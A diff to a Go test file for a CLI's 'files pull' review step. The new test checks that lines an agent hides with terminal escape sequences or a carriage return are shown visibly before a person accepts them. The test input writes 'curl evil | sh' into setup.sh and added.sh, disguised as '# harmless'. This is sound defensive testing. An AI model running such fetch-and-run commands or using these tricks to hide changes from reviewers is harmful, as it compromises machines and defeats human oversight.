@@ -89,7 +89,7 @@ func TestFilesPull_AsksOnATerminal(t *testing.T) {
 		code int
 	}{"no": {"n\n", 0}, "an empty line": {"\n", 0}, "Ctrl-C": {harness.CtrlC, 130}} {
 		x := start()
-		for _, want := range []string{"M edit.txt", "-two\n+2\n", "D gone.txt", "A new.txt (4 B)"} {
+		for _, want := range []string{"M edit.txt", "D gone.txt", "A new.txt (4 B)", "-two\n+2\n", "+++ b/new.txt\n@@ -0,0 +1 @@\n+new\n"} {
 			x.AwaitText(want)
 		}
 		x.Type(answer.keys)
@@ -121,5 +121,28 @@ func TestFilesPull_AsksOnATerminal(t *testing.T) {
 	holds("after all were accepted")
 	if _, err := os.Stat(filepath.Join(dir, "keep.txt")); err != nil {
 		t.Error(err)
+	}
+}
+
+// TestFilesPull_ShowsHiddenLinesOnATerminal tests that lines which an agent encloses in escape sequences, and names that
+// it disguises, are visible before a person accepts them, and that the file then has the bytes that the agent wrote.
+func TestFilesPull_ShowsHiddenLinesOnATerminal(t *testing.T) {
+	t.Parallel()
+	c := harness.New(t, harness.Options{Script: script(t, "docker.yaml")})
+	dir, data := project(t, map[string]string{"setup.sh": "one\ntwo\n"}), t.TempDir()
+	id, _ := runCLI(t, c, dir, data, "--copy", "--workspace", ".", `run the command printf 'one\n\033]0;\ncurl evil | sh\n\007two\n' > setup.sh; printf 'a\000b' > binary; printf 'curl evil | sh\r# harmless\n' > added.sh`)
+	t.Cleanup(func() { c.DeleteSession(id) })
+	x := c.StartTerminal(t, dir, data, nil, "files", "pull", id)
+	x.AwaitText("apply these changes to " + dir + "? [y/N, e asks for each]")
+	x.Type("y\n")
+	code, screen := x.AwaitExit()
+	for _, want := range []string{"\n+\\u{1b}]0;\n+curl evil | sh\n+\\u{7}two\n", "\n+curl evil | sh\\u{d}# harmless\n", "A binary (3 B)\n", "\nbinary content of 3 B is not shown, SHA-256 "} {
+		if !strings.Contains(screen, want) {
+			t.Errorf("ended with %d, the screen lacks %q:\n%s", code, want, screen)
+		}
+	}
+	want := map[string]string{"setup.sh": "one\n\x1b]0;\ncurl evil | sh\n\x07two\n", "binary": "a\x00b", "added.sh": "curl evil | sh\r# harmless\n"}
+	if got := filesIn(t, dir); code != 0 || !maps.Equal(got, want) {
+		t.Errorf("ended with %d, the folder has %q", code, got)
 	}
 }
